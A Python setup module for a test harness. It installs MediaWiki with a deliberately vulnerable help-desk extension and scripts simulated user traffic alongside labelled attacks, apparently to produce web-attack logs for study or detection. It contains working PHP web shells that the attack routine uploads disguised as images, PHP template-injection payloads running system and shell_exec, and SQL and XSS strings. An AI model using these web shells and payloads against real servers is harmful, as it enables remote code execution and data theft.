"""MediaWiki (Debian) on Apache and mod_php with MariaDB, every action told by the query, and a vulnerable help desk."""
import os
import shutil
import subprocess
from pathlib import Path
from urllib.parse import urlencode

from recorder.application import Application, Person
from recorder.attacks import Planting, Surface, Write
from recorder.databases import MariaDb
from recorder.injections import Place, Secrets
from recorder.labels import Label
from recorder.users import outside, returned

HERE, WIKI = Path(__file__).parent, Path("/usr/share/mediawiki")
PEOPLE = [Person(login, f"pw-{login.lower()}-2024", "") for login in "Admin Kim Lou Ida Bo Sam Eve Max Zoe Ned Amy Rex Ina Tom Uma Jon".split()]
DESK = "/index.php?title=Special:Desk&page="
TOPICS = ["Printer", "Rope", "Invoice", "Jacket", "Bell", "Mail", "Network", "Chair", "Login_help", "Backup", "Sandbox", "Main_Page"]
LETTERS = ["Dear <?= $name ?>, about <?= $case ?>: it is done.", "Hello <?= $name ?>!", "<?php if ($case): ?>Case <?= $case ?> is yours.<?php endif ?>"]


def maintenance(instance, script, *arguments):
    env = os.environ | {"MW_CONFIG_FILE": str(instance.folder / "LocalSettings.php")}
    subprocess.run(["php", WIKI / "maintenance" / script, *map(str, arguments)], check=True, env=env, capture_output=True)


def prepare(instance):
    install = ["--dbserver", f"localhost:{instance.database.socket}", "--dbname", "app", "--dbuser", "app", "--dbpass", "app", "--installdbuser", "app", "--installdbpass", "app",
               "--scriptpath", "", "--server", instance.address, "--confpath", instance.folder, "--pass", PEOPLE[0].password, "--skins", "Vector", "Testbed", PEOPLE[0].login]
    subprocess.run(["php", WIKI / "maintenance" / "install.php", *map(str, install)], check=True, capture_output=True)
    with open(instance.folder / "LocalSettings.php", "a") as settings:
        settings.write((HERE / "settings.php").read_text())
    shutil.copy(HERE / "SpecialDesk.php", instance.folder)
    for person in PEOPLE[1:]:
        maintenance(instance, "createAndPromote.php", person.login, person.password)
    texts = instance.folder / "texts"
    texts.mkdir(exist_ok=True)
    for topic in TOPICS:
        (texts / f"{topic}.txt").write_text(f"== {topic} ==\nIt's about [[{topic}]]; a < b. See [[Sandbox]] and [https://example.org/ more].\n\n* one\n* two\n")
    maintenance(instance, "importTextFiles.php", "--overwrite", *texts.iterdir())
    instance.database.sql((HERE / "desk.sql").read_text(), "app")
    text = (HERE / "apache.conf").read_text().replace("FOLDER", str(instance.folder)).replace("PORT", str(instance.port))
    (instance.folder / "apache.conf").write_text(text)


def server(instance):
    return ["apache2", "-DFOREGROUND", "-f", instance.folder / "apache.conf"], {}


def jobs(instance):
    php = f"setpriv --reuid=33 --regid=33 --clear-groups env MW_CONFIG_FILE={instance.folder}/LocalSettings.php php {WIKI}/maintenance"
    return [f"{instance.database.dump} | gzip > {instance.folder}/tmp/backup.gz", f"{php}/runJobs.php --maxjobs 5", f"find {instance.folder}/tmp -mmin +60 -name '*.gz' -delete"]


async def login(client, person):
    await client.submit("/index.php?title=Special:UserLogin", {"wpName": person.login, "wpPassword": person.password})


async def guess(client, name, password, label):
    await client.submit("/index.php?title=Special:UserLogin", {"wpName": name, "wpPassword": password}, label=label)


async def read(u):
    await u.client.visit("/index.php?title=" + u.rand.choice(TOPICS))


async def special(u):
    title = u.rand.choice(TOPICS)
    await u.client.visit("/index.php?" + u.rand.choice([f"title={title}&action=history", "title=Special:RecentChanges", f"title={title}&action=info", f"title=Talk:{title}", f"title={title}&action=raw",
                                                        "title=Special:AllPages", f"title=Special:WhatLinksHere/{title}", "title=Special:Watchlist"]))


async def search(u):
    await u.client.visit("/index.php?" + urlencode({"title": "Special:Search", "search": u.texts.query(), "fulltext": "1"}))


async def edit(u):
    title = u.rand.choice(TOPICS[:-1] + [f"Talk:{TOPICS[u.rand.randrange(10)]}", f"User:{u.person.login}"])
    text = f"== {u.texts.word()} ==\n{u.texts.prose()}\n\n'''{u.texts.word()}''' <nowiki>{u.texts.query()}</nowiki> <code>a < b</code>\n* {u.texts.prose()}\n"
    await u.client.submit(f"/index.php?title={title}&action=edit", {"wpTextbox1": text, "wpSummary": u.texts.title()})


async def preferences(u):
    await u.client.submit("/index.php?title=Special:Preferences", {"wprealname": u.texts.name(), "wpnickname": u.rand.choice(["", "O'B", "[[User:Kim|kim]]"])})


async def find(u):
    await u.client.submit(DESK + "find", {"word": u.texts.query() if u.rand.random() < 0.15 else u.texts.word()})
    if await u.think(0.2, 0.8):
        await u.client.visit(f"{DESK}item&id={u.rand.randint(1, 60)}")


async def ranking(u):
    await u.client.visit(f"{DESK}ranking&by={u.rand.choice(['id', 'title', 'priority desc', 'title desc', 'priority'])}")


async def card(u):
    fields = {"fullname": u.texts.name().replace("<", "("), "email": u.texts.mail(), "phone": u.texts.phone(), "street": u.texts.street(), "city": u.texts.city(), "note": u.rand.choice(["ring twice", "either Mon or Tue", "gift: \"happy\"", "size < 9; blue"])}
    names = u.rand.sample(sorted(fields), u.rand.randint(1, 6))
    await u.client.submit(DESK + "card", {name: fields[name] for name in names})


async def wall(u):
    await u.client.submit(DESK + "wall", {"text": u.texts.markup() if u.rand.random() < 0.4 else u.texts.prose()})


async def join(u):
    await u.client.visit(DESK + "wall")
    await u.client.visit(f"{DESK}join&event={u.rand.randint(1, 30)}&note={u.texts.word()}")


async def upload(u):
    name, kind, content = u.texts.file()
    await u.client.submit(DESK + "files", {}, files={"upload": (name, kind, content)})
    if await u.think(0.1, 0.5):
        await u.client.call("GET", f"{DESK}file&file={name.replace(' ', '%20')}")
    if name == "notes.txt":
        await u.client.submit(DESK + "files", {"name": name})


async def link(u):
    await u.client.submit(DESK + "files", {"address": f"{u.sites.honest(False)}/article/{u.rand.randint(1, 99)}?ref=desk"})


async def letter(u):
    await u.client.submit(DESK + "letter", {"text": u.rand.choice(LETTERS), "case": str(u.rand.randint(1, 60))})


async def script(u):
    await u.client.visit(DESK + "find")
    await u.client.call("POST", DESK + "filter", json={"below": {"priority": u.rand.randint(1, 5)}, "starts": u.rand.choice(["B", "Pr", "", "Rope", "Mail"])})


async def pay(u):
    await u.client.visit(DESK + "find")
    await returned(u, DESK + "paid", {"reference": f"INV-{u.rand.randint(100, 999)}", "state": "paid", "signature": f"{u.rand.getrandbits(64):x}"})


async def signin(u):
    await u.client.submit(DESK + "signin", {"login": u.person.login, "pass": u.person.password + ("" if u.rand.random() < 0.8 else "x")})


async def export(u):
    await u.client.visit(u.rand.choice([DESK + "export", "/index.php?title=Special:Export/" + u.rand.choice(TOPICS)]))


async def newsletter(u):
    """A link on another site that changes something here."""
    await returned(u, "/index.php", {"title": "Special:Desk", "page": "join", "event": u.rand.randint(1, 30), "note": "mail"}, "get", "news")


async def odd_upload(u):
    name, content = u.rand.choice([("list.php.png", b"\x89PNG\r\n"), ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><title>mine</title></svg>"), ("notes.html", b"<p>Hello</p>"), ("setup.sh", b"#!/bin/sh\necho hello\n")])
    await u.client.submit(DESK + "files", {}, files={"upload": (name, "application/octet-stream", content)})


async def odd_question(u):
    text = "How is <script>alert(1)</script> escaped? Our DBA says: UPDATE users SET city = 'x' WHERE id = 5 -- or <img src=x onerror=alert(1)>, is that bad? ' OR 1=1"
    await u.client.submit("/index.php?title=Talk:Sandbox&action=edit", {"wpTextbox1": text, "wpSummary": "question"})


async def new_feature(u):
    await u.client.visit(f"/index.php?title=Special:Search&search=rope&profile=advanced&limit={u.rand.randint(1, 9)}&ns0=1&ns1=1")


async def webhook(episode, rand):
    await outside(episode, rand).call("POST", DESK + "paid", form={"reference": f"INV-{rand.randint(100, 999)}", "state": rand.choice(["paid", "settled", "refunded"])}, headers={"X-Signature": f"{rand.getrandbits(64):x}"})


async def api_client(episode, rand):
    await outside(episode, rand).call("GET", "/api.php?action=query&list=recentchanges&format=json&rclimit=5")


async def crawler(episode, rand):
    for path in ("/robots.txt", "/index.php?title=Main_Page", "/sitemap.xml", "/wp-login.php", "/favicon.ico"):
        await outside(episode, rand, "ExampleBot/2.1 (+https://bot.example/about)").visit(path)
        await episode.pause(0.5)


SHELLS = [b"<?php system($_GET['c']);", b"GIF89a<?php echo shell_exec($_GET['c'] ?? ''); ?>", b"<?=`{$_REQUEST['c']}`?>"]


async def shell(attack):
    name = f"pic{attack.rand.randrange(999)}.{attack.rand.choice(['php', 'php', 'gif.php'])}"
    await attack.client.submit(DESK + "files", {}, files={"upload": (name, attack.rand.choice(["image/gif", "application/octet-stream"]), attack.rand.choice(SHELLS))}, label=Label("web-shell", "upload", 0))
    return f"/uploads/{name}"


FILTER = {"below": {"priority": 3}, "starts": "B"}
EDIT = "/index.php?title=Talk:Rope&action="
ATTACKS = Surface(
    dialect="mysql",
    secrets=Secrets("desk_member", "login", "pass", ("role", "fullname", "email", "phone", "street", "city")),
    reads=[Place("GET", DESK + "find", "word", "like", ")", "ntt"), Place("GET", DESK + "item", "id", "number", "", "ntt")],
    orders=[Place("GET", DESK + "ranking", "by", "order", "", "title,body")],
    stacked=[],
    updates=[Place("POST", DESK + "card", "note", others={"city": "Cork"})],
    json=[Place("POST", DESK + "filter", "starts", "like", "", "nt", FILTER, "json"), Place("POST", DESK + "filter", "below.priority", "number", "", "nt", FILTER, "json")],
    logins=[Place("POST", DESK + "signin", "login", others={"pass": "x"})],
    guess=guess,
    reflected=[Place("GET", DESK + "find", "word")],
    plantings=[Planting(DESK + "wall", "text", DESK + "wall"), Planting(DESK + "wall", "text", DESK + "wall"), Planting(DESK + "card", "fullname", DESK + "wall")],
    writes=[Write(DESK + "card", {"fullname": "Kim {}", "email": "kim{}@mail.example", "phone": "555 {}", "street": "{} Far Away", "city": "Nowhere", "note": "none"}), Write(DESK + "wall", {"text": "agreed {}"})],
    guarded_writes=[Write(EDIT + "submit", {"wpTextbox1": "Gone {}", "wpSummary": "tidy {}"}, {"wpSave": "1", "wpUltimateParam": "1", "wpUnicodeCheck": "ℳ𝒲♥𝓊𝓃𝒾𝒸ℴ𝒹ℯ", "wpStarttime": "20991231000000"}, EDIT + "edit", "wpEditToken")],
    changing_gets=[DESK + "join&event={}&note=all", DESK + "join&event=7&note={}"],
    private=[DESK + "export"],
    shell=shell,
    commands=[Place("POST", DESK + "size", "name", honest="notes.txt")],
    templates=[(Place("POST", DESK + "letter", "text", others={"case": "5"}), ["<?= `COMMAND` ?>", "<?php system('COMMAND') ?>", "<?= $name ?><?php print(shell_exec(base64_decode('aWQ='))) ?>"])],
    files=[Place("GET", DESK + "file", "file", honest="notes.txt")],
    fetches=[Place("POST", DESK + "link", "address")],
)
APPLICATION = Application(
    name="mediawiki", database=MariaDb, packages=("mediawiki", "mariadb-server", "apache2", "libapache2-mod-php", "php-mysql", "php-intl", "php-mbstring", "php-xml", "php-apcu"),
    prepare=prepare, server=server, ready=DESK + "find", access_log="log/access.log",
    actions=[(7, read), (3, special), (3, search), (3, edit), (1, preferences), (3, find), (1, ranking), (2, card), (2, wall), (1, join), (1, upload), (1, link), (1, letter), (2, script), (1, pay), (1, signin), (1, export)],
    odd_actions=[newsletter, odd_upload, odd_question, new_feature],
    others=[(9, webhook), (12, api_client), (40, crawler)],
    login=login, people=PEOPLE, pages=["/index.php?title=Main_Page", DESK + "find", DESK + "wall", DESK + "files"], attacks=ATTACKS, jobs=jobs,
)
